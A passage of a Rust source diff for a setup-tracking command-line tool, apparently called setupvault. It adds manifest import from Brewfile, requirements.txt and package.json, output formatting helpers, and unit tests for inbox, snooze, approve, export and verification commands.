+        if let Err(err) = result {
+            eprintln!("refused {}: {err:#}", file.display());
+            failed += 1;
+        }
+    }
+    if !quiet {
+        eprintln!(
+            "imported {} of {} entries from {}",
+            files.len() - failed,
+            files.len(),
+            source.display()
+        );
+    }
+    if failed > 0 {
+        return Err(anyhow!("{failed} of {} files failed to import", files.len()));
+    }
+    Ok(Outcome::Success)
+}
+
+/// A dependency read from a Brewfile, requirements.txt, or package.json.
+#[derive(Debug, PartialEq)]
+struct ManifestDependency {
+    title: String,
+    entry_type: EntryType,
+    source: &'static str,
+    cmd: String,
+}
+
+impl ManifestDependency {
+    fn package(title: &str, source: &'static str, cmd: String) -> Self {
+        Self {
+            title: title.to_string(),
+            entry_type: EntryType::Package,
+            source,
+            cmd,
+        }
+    }
+}
+
+/// Create an entry per manifest dependency not already in the vault by `(source, title)`,
+/// prompting once for a shared rationale when none is given.
+fn import_manifest(
+    vault: &FsVault,
+    config: &VaultConfig,
+    file: &str,
+    format: ManifestFormat,
+    rationale: Option<RationaleSource>,
+    tags: Vec<String>,
+    quiet: bool,
+) -> Result<Outcome> {
+    let path = expand_path(file);
+    let contents = std::fs::read_to_string(&path)
+        .with_context(|| format!("failed to read {}", path.display()))?;
+    let dependencies = parse_manifest(format, &contents)?;
+    let mut existing: std::collections::HashSet<(String, String)> = vault
+        .list()
+        .context("failed to list entries")?
+        .into_iter()
+        .map(|entry| (entry.source, entry.title))
+        .collect();
+    let total = dependencies.len();
+    let new: Vec<ManifestDependency> = dependencies
+        .into_iter()
+        .filter(|dependency| {
+            existing.insert((dependency.source.to_string(), dependency.title.clone()))
+        })
+        .collect();
+    if new.is_empty() {
+        if !quiet {
+            eprintln!("nothing to import: all {total} dependencies are already in the vault");
+        }
+        return Ok(Outcome::Success);
+    }
+
+    let rationale = match rationale {
+        Some(rationale) => rationale,
+        None => prompt_rationale(&format!(
+            "Rationale for {} dependencies from {} (or @template)",
+            new.len(),
+            path.display()
+        ))?,
+    };
+    for dependency in &new {
+        capture_entry(
+            vault,
+            config,
+            Some(dependency.title.clone()),
+            Some(rationale.clone()),
+            dependency.entry_type.clone(),
+            dependency.source.to_string(),
+            Some(dependency.cmd.clone()),
+            tags.clone(),
+            None,
+            derive_uninstall_cmd(&dependency.cmd),
+            None,
+        )
+        .with_context(|| format!("failed to import {}", dependency.title))?;
+        if !quiet {
+            println!("created {}", dependency.title);
+        }
+    }
+    if !quiet {
+        eprintln!(
+            "imported {} of {total} dependencies ({} already in the vault)",
+            new.len(),
+            total - new.len()
+        );
+    }
+    Ok(Outcome::Success)
+}
+
+fn parse_manifest(format: ManifestFormat, contents: &str) -> Result<Vec<ManifestDependency>> {
+    Ok(match format {
+        ManifestFormat::Brewfile => parse_brewfile(contents),
+        ManifestFormat::Requirements => parse_requirements(contents),
+        ManifestFormat::PackageJson => parse_package_json(contents)?,
+    })
+}
+
+/// `brew` and `cask` lines of a Brewfile; taps, Mac App Store apps, and other lines are
+/// skipped. Tapped formulae (`user/tap/name`) are titled by their last segment, like
+/// `brew list`.
+fn parse_brewfile(contents: &str) -> Vec<ManifestDependency> {
+    let mut dependencies = Vec::new();
+    for line in contents.lines().map(str::trim) {
+        let Some((kind, rest)) = line.split_once(char::is_whitespace) else {
+            continue;
+        };
+        let rest = rest.trim_start();
+        let Some(quote) = rest.chars().next().filter(|c| *c == '"' || *c == '\'') else {
+            continue;
+        };
+        let Some(name) = rest[1..].split(quote).next().filter(|name| !name.is_empty()) else {
+            continue;
+        };
+        let title = name.rsplit('/').next().unwrap_or(name);
+        match kind {
+            "brew" => dependencies.push(ManifestDependency::package(
+                title,
+                "homebrew",
+                format!("brew install {}", sv_utils::shell_quote(name)),
+            )),
+            "cask" => dependencies.push(ManifestDependency {
+                entry_type: EntryType::Application,
+                ..ManifestDependency::package(
+                    title,
+                    "homebrew",
+                    format!("brew install --cask {}", sv_utils::shell_quote(name)),
+                )
+            }),
+            _ => {}
+        }
+    }
+    dependencies
+}
+
+/// Requirement lines of a requirements.txt, keeping version specifiers in the command.
+/// Comments, option lines (`-r`, `-e`, ...), per-requirement options (`--hash`), URLs, and
+/// environment markers are dropped; lines ending in `\` continue on the next line.
+fn parse_requirements(contents: &str) -> Vec<ManifestDependency> {
+    let mut dependencies = Vec::new();
+    for line in contents.replace("\\\n", " ").lines() {
+        let line = line.split(" #").next().unwrap_or_default().trim();
+        if line.is_empty() || line.starts_with('#') || line.starts_with('-') || line.contains("://")
+        {
+            continue;
+        }
+        let requirement = line.split(';').next().unwrap_or_default();
+        let spec: String = requirement
+            .split_whitespace()
+            .take_while(|word| !word.starts_with('-'))
+            .collect();
+        let name = spec
+            .split(['[', '<', '>', '=', '!', '~', '@'])
+            .next()
+            .unwrap_or_default();
+        if name.is_empty() {
+            continue;
+        }
+        dependencies.push(ManifestDependency::package(
+            name,
+            "pip",
+            format!("pip install {}", sv_utils::shell_quote(&spec)),
+        ));
+    }
+    dependencies
+}
+
+/// Names under `dependencies` and `devDependencies` of a package.json, as global installs.
+fn parse_package_json(contents: &str) -> Result<Vec<ManifestDependency>> {
+    let manifest: serde_json::Value =
+        serde_json::from_str(contents).context("package.json is not valid JSON")?;
+    let mut dependencies = Vec::new();
+    for section in ["dependencies", "devDependencies"] {
+        let Some(names) = manifest.get(section).and_then(serde_json::Value::as_object) else {
+            continue;
+        };
+        for name in names.keys() {
+            dependencies.push(ManifestDependency::package(
+                name,
+                "npm",
+                format!("npm install -g {}", sv_utils::shell_quote(name)),
+            ));
+        }
+    }
+    Ok(dependencies)
+}
+
+fn import_entry_file(
+    vault: &FsVault,
+    config: &VaultConfig,
+    file: &std::path::Path,
+    verify: bool,
+) -> Result<()> {
+    if verify && !verify_checksum_sidecar(file).context("failed to verify checksum")? {
+        return Err(anyhow!("checksum mismatch"));
+    }
+    let contents = std::fs::read_to_string(file).context("failed to read entry")?;
+    let mut entry = parse_entry_markdown(&contents).context("failed to parse entry")?;
+    let tags = entry.tags.iter().map(|tag| tag.as_str().to_string()).collect();
+    entry.tags = parse_tags(tags, &config.tag_aliases)?;
+    if vault.get(entry.id).context("failed to load entry")?.is_some() {
+        return Err(anyhow!("entry {} already exists", entry.id));
+    }
+    vault.create(&entry).context("failed to write entry")
+}
+
+/// Usage tracking is best-effort: a failed write never fails the command.
+fn note_access(vault: &FsVault, id: Uuid) {
+    if let Err(err) = vault.record_access(id) {
+        tracing::debug!(%err, %id, "failed to record entry access");
+    }
+}
+
+fn not_found(kind: &str, id: Uuid) -> Outcome {
+    eprintln!("{kind} not found: {id}");
+    Outcome::NotFound
+}
+
+fn script_failed(kind: &str, code: i32) -> Outcome {
+    eprintln!("{kind} exited with status {code}");
+    Outcome::ScriptFailed(code)
+}
+
+/// Whether `inbox` and `list` print matching rows, `--porcelain` lines, or only how many
+/// matched.
+#[derive(Clone, Copy)]
+enum ListOutput {
+    Rows,
+    Count { json: bool },
+    Porcelain,
+}
+
+/// How `inbox` prints the items it selected.
+enum InboxOutput {
+    List(ListOutput),
+    Grouped { by: GroupBy, json: bool },
+}
+
+impl ListOutput {
+    fn new(count: bool, json: bool, porcelain: bool) -> Self {
+        if count {
+            Self::Count { json }
+        } else if porcelain {
+            Self::Porcelain
+        } else {
+            Self::Rows
+        }
+    }
+}
+
+/// Format one `--porcelain` record: space-separated `key=value` pairs in the given order.
+///
+/// Values are shell-quoted so the line can be split with `eval` or `shlex`; values holding
+/// a newline or carriage return use `$'...'` escapes instead, keeping each record on one line.
+fn porcelain_line(fields: &[(&str, &str)]) -> String {
+    fields
+        .iter()
+        .map(|(key, value)| format!("{key}={}", porcelain_value(value)))
+        .collect::<Vec<_>>()
+        .join(" ")
+}
+
+fn porcelain_value(value: &str) -> String {
+    if !value.contains(['\n', '\r']) {
+        return sv_utils::shell_quote(value);
+    }
+    let mut quoted = String::from("$'");
+    for c in value.chars() {
+        match c {
+            '\\' => quoted.push_str("\\\\"),
+            '\'' => quoted.push_str("\\'"),
+            '\n' => quoted.push_str("\\n"),
+            '\r' => quoted.push_str("\\r"),
+            '\t' => quoted.push_str("\\t"),
+            c => quoted.push(c),
+        }
+    }
+    quoted.push('\'');
+    quoted
+}
+
+fn count_line(count: usize, json: bool) -> String {
+    if json {
+        serde_json::json!({ "count": count }).to_string()
+    } else {
+        count.to_string()
+    }
+}
+
+/// Number of inbox, snoozed, and library items, as reported by `status`.
+fn vault_counts(vault: &FsVault) -> Result<serde_json::Value> {
+    let stats = vault.stats().context("failed to summarize vault")?;
+    Ok(serde_json::json!({
+        "inbox": stats.inbox,
+        "snoozed": stats.snoozed,
+        "library": stats.total_entries,
+    }))
+}
+
+fn print_status(vault: &FsVault, json: bool) -> Result<Outcome> {
+    let counts = vault_counts(vault)?;
+    if json {
+        println!("{counts}");
+    } else {
+        println!(
+            "inbox {} snoozed {} library {}",
+            counts["inbox"], counts["snoozed"], counts["library"]
+        );
+    }
+    Ok(Outcome::Success)
+}
+
+fn print_stats(vault: &FsVault, json: bool) -> Result<Outcome> {
+    let stats = vault.stats().context("failed to summarize vault")?;
+    if json {
+        println!(
+            "{}",
+            serde_json::to_string_pretty(&stats).context("failed to serialize stats")?
+        );
+        return Ok(Outcome::Success);
+    }
+    println!(
+        "Entries: {} (inbox {}, snoozed {})",
+        stats.total_entries, stats.inbox, stats.snoozed
+    );
+    if let (Some(oldest), Some(newest)) = (stats.oldest_detected_at, stats.newest_detected_at) {
+        println!("Detected: {} to {}", oldest.format("%Y-%m-%d"), newest.format("%Y-%m-%d"));
+    }
+    if !stats.by_type.is_empty() {
+        println!("By type:");
+        for (entry_type, count) in &stats.by_type {
+            println!("  {}\t{count}", entry_type.as_str());
+        }
+    }
+    if !stats.by_source.is_empty() {
+        println!("By source:");
+        for (source, count) in stats.top_sources() {
+            println!("  {source}\t{count}");
+        }
+    }
+    Ok(Outcome::Success)
+}
+
+fn empty_outcome(fail_if_empty: bool) -> Outcome {
+    if fail_if_empty {
+        Outcome::Empty
+    } else {
+        Outcome::Success
+    }
+}
+
+fn write_completions(shell: Shell, out: &mut dyn Write) {
+    let mut cmd = Cli::command();
+    let name = cmd.get_name().to_string();
+    clap_complete::generate(shell, &mut cmd, name, out);
+}
+
+/// Parse tags, mapping configured `tag_aliases` to their canonical tags.
+fn parse_tags(
+    tags: Vec<String>,
+    aliases: &std::collections::BTreeMap<String, String>,
+) -> Result<Vec<Tag>> {
+    canonical_tags(tags, aliases).map_err(|err| anyhow!(err.to_string()))
+}
+
+fn sanitize_export_filename(title: &str, id: Uuid) -> String {
+    let slug = slugify(title);
+    let slug = if slug.is_empty() { "entry" } else { slug.as_str() };
+    format!("{slug}-{id}.md")
+}
+
+fn slugify(input: &str) -> String {
+    let mut slug = String::new();
+    let mut last_dash = false;
+    for ch in input.chars() {
+        if ch.is_ascii_alphanumeric() {
+            slug.push(ch.to_ascii_lowercase());
+            last_dash = false;
+        } else if !last_dash {
+            slug.push('-');
+            last_dash = true;
+        }
+    }
+    slug.trim_matches('-').to_string()
+}
+
+/// Append changes not already queued, returning the ones that were added.
+fn append_unique(
+    target: &mut Vec<DetectedChange>,
+    incoming: Vec<DetectedChange>,
+) -> Vec<DetectedChange> {
+    let mut seen: std::collections::HashSet<(String, String)> = target
+        .iter()
+        .map(|change| (change.source.clone(), change.title.clone()))
+        .collect();
+    let mut added = Vec::new();
+    for change in incoming {
+        let (source, title) = change.dedupe_key();
+        if seen.insert((source.to_string(), title.to_string())) {
+            target.push(change.clone());
+            added.push(change);
+        }
+    }
+    added
+}
+
+fn group_by_source(
+    changes: &[DetectedChange],
+) -> std::collections::BTreeMap<String, Vec<DetectedChange>> {
+    let mut map = std::collections::BTreeMap::new();
+    for change in changes {
+        map.entry(change.source.clone())
+            .or_insert_with(Vec::new)
+            .push(change.clone());
+    }
+    map
+}
+
+fn group_by_type(
+    changes: &[DetectedChange],
+) -> std::collections::BTreeMap<String, Vec<DetectedChange>> {
+    let mut map = std::collections::BTreeMap::new();
+    for change in changes {
+        map.entry(change.entry_type.as_str().to_string())
+            .or_insert_with(Vec::new)
+            .push(change.clone());
+    }
+    map
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn outcome_codes_do_not_collide_with_errors_or_each_other() {
+        let codes = [
+            Outcome::Success,
+            Outcome::NotFound,
+            Outcome::Empty,
+            Outcome::ScriptFailed(2),
+            Outcome::NotDetected,
+        ]
+        .map(Outcome::code);
+        assert_eq!(codes, [0, 6, 3, 4, 5]);
+        let usage_error = Cli::try_parse_from(["setupvault", "--no-such-flag"])
+            .err()
+            .expect("unknown flag")
+            .exit_code();
+        assert!(!codes.contains(&usage_error), "clap exits {usage_error} on usage errors");
+    }
+
+    #[test]
+    fn cli_help_snapshot() {
+        let mut cmd = Cli::command();
+        let mut buffer = Vec::new();
+        cmd.write_long_help(&mut buffer).expect("help output");
+        let help = String::from_utf8(buffer).expect("utf8 help");
+        insta::assert_snapshot!(help);
+    }
+
+    #[test]
+    fn snooze_help_snapshot() {
+        let mut cmd = Cli::command();
+        let snooze = cmd.find_subcommand_mut("snooze").expect("snooze subcommand");
+        let mut buffer = Vec::new();
+        snooze.write_long_help(&mut buffer).expect("help output");
+        let help = String::from_utf8(buffer).expect("utf8 help");
+        insta::assert_snapshot!(help);
+    }
+
+    #[test]
+    fn completions_include_subcommands() {
+        for shell in [Shell::Bash, Shell::Zsh, Shell::Fish, Shell::PowerShell] {
+            let mut buffer = Vec::new();
+            write_completions(shell, &mut buffer);
+            let script = String::from_utf8(buffer).expect("utf8 completions");
+            for name in ["init", "capture", "inbox", "approve", "completions"] {
+                assert!(script.contains(name), "{shell} completions missing {name}");
+            }
+        }
+    }
+
+    #[test]
+    fn filter_detectors_rejects_unknown_sources() {
+        let detectors = || -> Vec<Arc<dyn Detector + Send + Sync>> {
+            vec![
+                Arc::new(sv_detectors::NpmDetector::new()),
+                Arc::new(sv_detectors::CargoDetector::new()),
+            ]
+        };
+        let filtered = filter_detectors(detectors(), &["cargo".to_string()]).expect("filter");
+        assert_eq!(filtered.len(), 1);
+        assert_eq!(filtered[0].name(), "cargo");
+
+        let err = filter_detectors(detectors(), &["nope".to_string()])
+            .err()
+            .expect("unknown source");
+        assert!(err.to_string().contains("valid names: cargo, npm"));
+    }
+    fn sample_change(path: Option<String>) -> DetectedChange {
+        named_change(".zshrc", "dotfiles", path)
+    }
+
+    fn named_change(title: &str, source: &str, path: Option<String>) -> DetectedChange {
+        DetectedChange {
+            id: Uuid::new_v4(),
+            path,
+            title: title.into(),
+            entry_type: EntryType::Config,
+            source: source.into(),
+            cmd: "cp .zshrc ~/.zshrc".into(),
+            system: SystemInfo {
+                os: "macos".into(),
+                arch: "arm64".into(),
+                hostname: None,
+            },
+            detected_at: Utc::now(),
+            tags: Vec::new(),
+            detector: None,
+        }
+    }
+
+    #[test]
+    fn group_by_type_keys_groups_by_serialized_type() {
+        let mut package = named_change("jq", "homebrew", None);
+        package.entry_type = EntryType::Package;
+        let config = named_change(".zshrc", "dotfiles", None);
+        let mut second = named_change("rg", "homebrew", None);
+        second.entry_type = EntryType::Package;
+
+        let groups = group_by_type(&[package.clone(), config.clone(), second.clone()]);
+        assert_eq!(groups.keys().collect::<Vec<_>>(), ["config", "package"]);
+        assert_eq!(groups["package"], vec![package, second]);
+        assert_eq!(groups["config"], vec![config]);
+    }
+
+    #[test]
+    fn approve_allows_changes_whose_path_is_missing() {
+        let temp = tempfile::TempDir::new().expect("temp dir");
+        let vault = FsVault::new(temp.path().to_path_buf());
+        vault.init().expect("init vault");
+        let mut change = sample_change(Some(temp.path().join("gone.zshrc").display().to_string()));
+        change.detector = Some("dotfiles".into());
+        vault.add_inbox_item(change.clone()).expect("add inbox item");
+
+        let outcome = approve(
+            &vault,
+            &VaultConfig::default(),
+            &change.id.to_string(),
+            RationaleSource::Text("shell setup".into()),
+            Vec::new(),
+            None,
+            None,
+        )
+        .expect("approve");
+        assert!(matches!(outcome, Outcome::Success));
+        let entries = vault.list().expect("list entries");
+        assert_eq!(entries.len(), 1);
+        assert_eq!(entries[0].detector.as_deref(), Some("dotfiles"));
+        assert!(vault.load_inbox().expect("load inbox").is_empty());
+    }
+
+    #[test]
+    fn snoozed_bulk_actions_are_safe_when_repeated() {
+        let temp = tempfile::TempDir::new().expect("temp dir");
+        let vault = FsVault::new(temp.path().to_path_buf());
+        vault.init().expect("init vault");
+        let change = sample_change(None);
+        vault.add_inbox_item(change.clone()).expect("add inbox item");
+        vault.snooze_inbox_item(change.id).expect("snooze");
+
+        for _ in 0..2 {
+            snoozed(&vault, &SnoozedAction::RestoreAll, true).expect("restore all");
+        }
+        assert!(vault.load_snoozed().expect("load snoozed").is_empty());
+        assert_eq!(vault.load_inbox().expect("load inbox"), vec![change.clone()]);
+
+        vault.snooze_inbox_item(change.id).expect("snooze");
+        for _ in 0..2 {
+            snoozed(&vault, &SnoozedAction::Clear, true).expect("clear");
+        }
+        assert!(vault.load_snoozed().expect("load snoozed").is_empty());
+        assert!(vault.load_inbox().expect("load inbox").is_empty());
+    }
+
+    #[test]
+    fn capabilities_report_expected_keys() {
+        let value = capabilities();
+        for key in [
+            "version",
+            "detectors",
+            "entry_types",
+            "entry_statuses",
+            "entry_fields",
+            "config_fields",
+        ] {
+            assert!(value.get(key).is_some(), "capabilities missing {key}");
+        }
+        let detectors = value["detectors"].as_array().expect("detector list");
+        assert!(detectors.iter().any(|name| name == "homebrew"));
+        assert_eq!(value["entry_types"][0], "package");
+        assert!(value["config_fields"]
+            .as_array()
+            .expect("config fields")
+            .iter()
+            .any(|field| field == "ignore_patterns"));
+    }
+
+    #[test]
+    fn snooze_and_ignore_act_on_query_matches() {
+        let temp = tempfile::TempDir::new().expect("temp dir");
+        let vault = FsVault::new(temp.path().to_path_buf());
+        vault.init().expect("init vault");
+        let jq = named_change("jq", "homebrew", None);
+        let ripgrep = named_change("ripgrep", "homebrew", None);
+        let serde = named_change("serde-cli", "cargo", None);
+        for change in [&jq, &ripgrep, &serde] {
+            vault.add_inbox_item(change.clone()).expect("add inbox item");
+        }
+
+        snooze(&vault, Vec::new(), Some("HOMEBREW".into()), true).expect("snooze by query");
+        assert_eq!(vault.load_snoozed().expect("load snoozed"), vec![jq, ripgrep]);
+        assert_eq!(vault.load_inbox().expect("load inbox"), vec![serde.clone()]);
+
+        ignore(&vault, Vec::new(), Some("nothing".into()), true).expect("ignore without matches");
+        ignore(&vault, Vec::new(), Some("serde".into()), true).expect("ignore by query");
+        assert!(vault.load_inbox().expect("load inbox").is_empty());
+
+        let both = snooze(&vault, vec![serde.id.to_string()], Some("serde".into()), true);
+        assert!(both.is_err());
+        assert!(ignore(&vault, Vec::new(), None, true).is_err());
+    }
+
+    #[test]
+    fn snoozing_by_query_never_evicts_other_inbox_items() {
+        let temp = tempfile::TempDir::new().expect("temp dir");
+        let vault = FsVault::new(temp.path().to_path_buf())
+            .with_inbox_limit(Some(1), sv_fs::InboxOverflow::DropOldest);
+        vault.init().expect("init vault");
+        let changes = [
+            named_change("jq", "homebrew", None),
+            named_change("serde-cli", "cargo", None),
+            named_change("ripgrep", "cargo", None),
+        ];
+        for change in &changes {
+            vault.add_inbox_item(change.clone()).expect("add inbox item");
+        }
+
+        snooze(&vault, Vec::new(), Some("homebrew".into()), true).expect("snooze by query");
+        assert_eq!(vault.load_inbox().expect("load inbox"), changes[1..]);
+        ignore(&vault, Vec::new(), Some("nothing".into()), true).expect("ignore without matches");
+        ignore(&vault, Vec::new(), Some("serde".into()), true).expect("ignore by query");
+        assert_eq!(vault.load_inbox().expect("load inbox"), changes[2..]);
+    }
+
+    #[test]
+    fn snooze_ignore_and_unsnooze_take_several_ids() {
+        let temp = tempfile::TempDir::new().expect("temp dir");
+        let vault = FsVault::new(temp.path().to_path_buf());
+        vault.init().expect("init vault");
+        let jq = named_change("jq", "homebrew", None);
+        let ripgrep = named_change("ripgrep", "homebrew", None);
+        let serde = named_change("serde-cli", "cargo", None);
+        for change in [&jq, &ripgrep, &serde] {
+            vault.add_inbox_item(change.clone()).expect("add inbox item");
+        }
+
+        let ids = vec![jq.id.to_string(), "not-an-id".into(), ripgrep.id.to_string()];
+        assert!(snooze(&vault, ids, None, true).is_err());
+        assert_eq!(vault.load_snoozed().expect("load snoozed"), vec![jq.clone(), ripgrep.clone()]);
+
+        let ids = vec![jq.id.to_string(), ripgrep.id.to_string()];
+        let outcome = unsnooze(&vault, &ids, true).expect("unsnooze both");
+        assert_eq!(outcome, Outcome::Success);
+        assert!(vault.load_snoozed().expect("load snoozed").is_empty());
+
+        let missing = Uuid::new_v4().to_string();
+        let ids = vec![serde.id.to_string(), missing.clone(), jq.id.to_string()];
+        assert!(ignore(&vault, ids, None, true).is_err());
+        assert_eq!(vault.load_inbox().expect("load inbox"), vec![ripgrep]);
+
+        let outcome = ignore(&vault, vec![missing], None, true).expect("single missing id");
+        assert_eq!(outcome, Outcome::NotFound);
+    }
+
+    #[test]
+    fn stale_window_rejects_out_of_range_amounts() {
+        assert_eq!(parse_stale_window("2w"), Ok(chrono::Duration::days(14)));
+        let err = parse_stale_window("99999999999999w").expect_err("overflows");
+        assert!(err.contains("too long"), "{err}");
+        assert!(parse_stale_window("99999999999999999999d").is_err());
+    }
+
+    #[test]
+    fn script_interpreter_follows_shebang() {
+        assert_eq!(
+            script_interpreter("#!/usr/bin/env bash\necho hi"),
+            ("/usr/bin/env".to_string(), vec!["bash".to_string()])
+        );
+        assert_eq!(script_interpreter("echo hi"), ("sh".to_string(), Vec::new()));
+        assert_eq!(script_interpreter("#!\necho hi"), ("sh".to_string(), Vec::new()));
+    }
+
+    #[test]
+    fn run_script_reports_exit_status() {
+        let temp = tempfile::TempDir::new().expect("temp dir");
+        let vault = FsVault::new(temp.path().to_path_buf());
+        vault.init().expect("init vault");
+        let script = temp.path().join("setup.sh");
+        std::fs::write(&script, "#!/bin/sh\n# fail on purpose\nexit 7\n").expect("write script");
+        capture_entry(
+            &vault,
+            &VaultConfig::default(),
+            Some("setup".into()),
+            Some(RationaleSource::Text("bootstrap".into())),
+            EntryType::Script,
+            "manual".into(),
+            None,
+            Vec::new(),
+            None,
+            None,
+            Some(script.display().to_string()),
+        )
+        .expect("capture");
+        let entry = vault.list().expect("list entries").remove(0);
+        assert!(entry.script_body.as_deref().unwrap_or_default().contains("exit 7"));
+
+        let outcome = run_script(&vault, &entry.id.to_string()).expect("run script");
+        assert_eq!(outcome, Outcome::ScriptFailed(7));
+        assert_eq!(
+            outcome.code(),
+            4,
+            "a script's own status never reads as not found or empty"
+        );
+    }
+
+    #[test]
+    fn export_reports_written_count() {
+        let temp = tempfile::TempDir::new().expect("temp dir");
+        let vault = FsVault::new(temp.path().join("vault"));
+        vault.init().expect("init vault");
+        for title in ["jq", "ripgrep"] {
+            capture_entry(
+                &vault,
+                &VaultConfig::default(),
+                Some(title.into()),
+                Some(RationaleSource::Text("daily tool".into())),
+                EntryType::Package,
+                "manual".into(),
+                None,
+                Vec::new(),
+                None,
+                None,
+                None,
+            )
+            .expect("capture");
+        }
+
+        let export_dir = temp.path().join("export");
+        let count = export_entries(&vault, &export_dir.display().to_string(), false, false, true)
+            .expect("export");
+        assert_eq!(count, 2);
+        assert_eq!(std::fs::read_dir(&export_dir).expect("read export").count(), 2);
+    }
+
+    #[test]
+    fn approve_stdin_continues_past_failures() {
+        let temp = tempfile::TempDir::new().expect("temp dir");
+        let vault = FsVault::new(temp.path().to_path_buf());
+        vault.init().expect("init vault");
+        let jq = named_change("jq", "homebrew", None);
+        let ripgrep = named_change("ripgrep", "homebrew", None);
+        for change in [&jq, &ripgrep] {
+            vault.add_inbox_item(change.clone()).expect("add inbox item");
+        }
+
+        let input = format!("{}\n\nnot-an-id\n{}\n", jq.id, ripgrep.id);
+        let ids = read_ids(std::io::Cursor::new(input)).expect("read ids");
+        assert_eq!(ids.len(), 3);
+        let result = approve_many(
+            &vault,
+            &VaultConfig::default(),
+            &ids,
+            RationaleSource::Text("auto".into()),
+            Vec::new(),
+            None,
+            None,
+            true,
+        );
+        assert!(result.is_err());
+        assert_eq!(vault.list().expect("list entries").len(), 2);
+        assert!(vault.load_inbox().expect("load inbox").is_empty());
+
+        let json = format!(r#"["{}", {{"id": "{}"}}]"#, jq.id, ripgrep.id);
+        let ids = read_ids(std::io::Cursor::new(json)).expect("read json ids");
+        assert_eq!(ids, [jq.id.to_string(), ripgrep.id.to_string()]);
+    }
+
+    #[test]
+    fn list_and_inbox_filter_by_source_and_type() {
+        let temp = tempfile::TempDir::new().expect("temp dir");
+        let vault = FsVault::new(temp.path().to_path_buf());
+        vault.init().expect("init vault");
+        for (title, source, entry_type) in [
+            ("jq", "homebrew", EntryType::Package),
+            ("ripgrep", "cargo", EntryType::Package),
+            ("iterm2", "homebrew", EntryType::Application),
+        ] {
+            capture_entry(
+                &vault,
+                &VaultConfig::default(),
+                Some(title.into()),
+                Some(RationaleSource::Text("daily tool".into())),
+                entry_type,
+                source.into(),
+                None,
+                Vec::new(),
+                None,
+                None,
+                None,
+            )
+            .expect("capture");
+            vault
+                .add_inbox_item(named_change(title, source, None))
+                .expect("add inbox item");
+        }
+
+        let by_source = |source: &str| EntryFilter {
+            source: Some(source.into()),
+            ..EntryFilter::default()
+        };
+        assert_eq!(
+            filtered_entries(&vault, &by_source("homebrew")).expect("filter entries").len(),
+            2
+        );
+        let packages_by_source = EntryFilter {
+            entry_type: Some(EntryType::Package),
+            ..by_source("homebrew")
+        };
+        let entries = filtered_entries(&vault, &packages_by_source).expect("filter entries");
+        assert_eq!(entries.len(), 1);
+        assert_eq!(entries[0].title, "jq");
+        assert!(filtered_entries(&vault, &by_source("unknown"))
+            .expect("filter entries")
+            .is_empty());
+        assert_eq!(
+            filtered_entries(&vault, &EntryFilter::default()).expect("all entries").len(),
+            3
+        );
+
+        let inbox = inbox_from_sources(&vault, &["cargo".to_string()]).expect("filter inbox");
+        assert_eq!(inbox.len(), 1);
+        assert_eq!(inbox[0].title, "ripgrep");
+        assert!(inbox_from_sources(&vault, &["unknown".to_string()])
+            .expect("filter inbox")
+            .is_empty());
+        assert_eq!(inbox_from_sources(&vault, &[]).expect("whole inbox").len(), 3);
+    }
+
+    #[test]
+    fn append_unique_returns_only_added_changes() {
+        let jq = named_change("jq", "homebrew", None);
+        let mut inbox = vec![jq.clone()];
+        let ripgrep = named_change("ripgrep", "homebrew", None);
+        let added = append_unique(
+            &mut inbox,
+            vec![named_change("jq", "homebrew", None), ripgrep.clone()],
+        );
+        assert_eq!(added, vec![ripgrep.clone()]);
+        assert_eq!(inbox, vec![jq, ripgrep]);
+    }
+
+    #[test]
+    fn inbox_page_continues_after_cursor() {
+        let items: Vec<_> = ["a", "b", "c", "d"]
+            .into_iter()
+            .map(|title| named_change(title, "homebrew", None))
+            .collect();
+        let titles = |page: &InboxPage| {
+            page.apply(items.clone())
+                .map(|items| items.into_iter().map(|item| item.title).collect::<Vec<_>>())
+        };
+
+        let first = InboxPage {
+            limit: Some(2),
+            ..InboxPage::default()
+        };
+        assert_eq!(titles(&first), Some(vec!["a".to_string(), "b".to_string()]));
+        let next = InboxPage {
+            after_id: Some(items[1].id),
+            limit: Some(2),
+            ..InboxPage::default()
+        };
+        assert_eq!(titles(&next), Some(vec!["c".to_string(), "d".to_string()]));
+        let last = InboxPage {
+            after_id: Some(items[3].id),
+            ..InboxPage::default()
+        };
+        assert_eq!(titles(&last), Some(Vec::new()));
+        let missing = InboxPage {
+            after_id: Some(Uuid::new_v4()),
+            ..InboxPage::default()
+        };
+        assert_eq!(titles(&missing), None);
+    }
+
+    #[test]
+    fn inbox_page_cursor_follows_stored_order_under_alphabetical_order() {
+        let items: Vec<_> = ["delta", "alpha", "charlie", "bravo"]
+            .into_iter()
+            .map(|title| named_change(title, "homebrew", None))
+            .collect();
+        let page = InboxPage {
+            after_id: Some(items[0].id),
+            limit: Some(2),
+            order: InboxOrder::Alphabetical,
+            ..InboxPage::default()
+        };
+        let titles: Vec<_> = page
+            .apply(items.clone())
+            .expect("cursor is queued")
+            .into_iter()
+            .map(|item| item.title)
+            .collect();
+        assert_eq!(titles, vec!["alpha".to_string(), "charlie".to_string()]);
+    }
+
+    #[test]
+    fn verify_records_only_passing_runs() {
+        let temp = tempfile::TempDir::new().expect("temp dir");
+        let vault = FsVault::new(temp.path().to_path_buf());
+        vault.init().expect("init vault");
+        for (title, verification) in [
+            ("ok", "Run `true` to check."),
+            ("broken", "`exit 3`"),
+            ("prose", "exit 0 once it launches"),
+        ] {
+            capture_entry(
+                &vault,
+                &VaultConfig::default(),
+                Some(title.into()),
+                Some(RationaleSource::Text("daily tool".into())),
+                EntryType::Package,
+                "manual".into(),
+                None,
+                Vec::new(),
+                Some(verification.into()),
+                None,
+                None,
+            )
+            .expect("capture");
+        }
+        let id_of = |title: &str| {
+            vault
+                .list()
+                .expect("list entries")
+                .into_iter()
+                .find(|entry| entry.title == title)
+                .expect("entry")
+                .id
+        };
+
+        let outcome = verify_entry(&vault, &id_of("ok").to_string()).expect("verify ok");
+        assert_eq!(outcome, Outcome::Success);
+        let outcome = verify_entry(&vault, &id_of("broken").to_string()).expect("verify broken");
+        assert_eq!(outcome, Outcome::ScriptFailed(3));
+        assert!(
+            verify_entry(&vault, &id_of("prose").to_string()).is_err(),
+            "text without a code span is never run"
+        );
+
+        let stale = EntryFilter {
+            stale: Some(parse_stale_window("1d").expect("window")),
+            ..EntryFilter::default()
+        };
+        let mut titles: Vec<_> = filtered_entries(&vault, &stale)
+            .expect("stale entries")
+            .into_iter()
+            .map(|entry| entry.title)
+            .collect();
+        titles.sort();
+        assert_eq!(titles, ["broken", "prose"]);
+        assert!(parse_stale_window("soon").is_err());
+        assert_eq!(
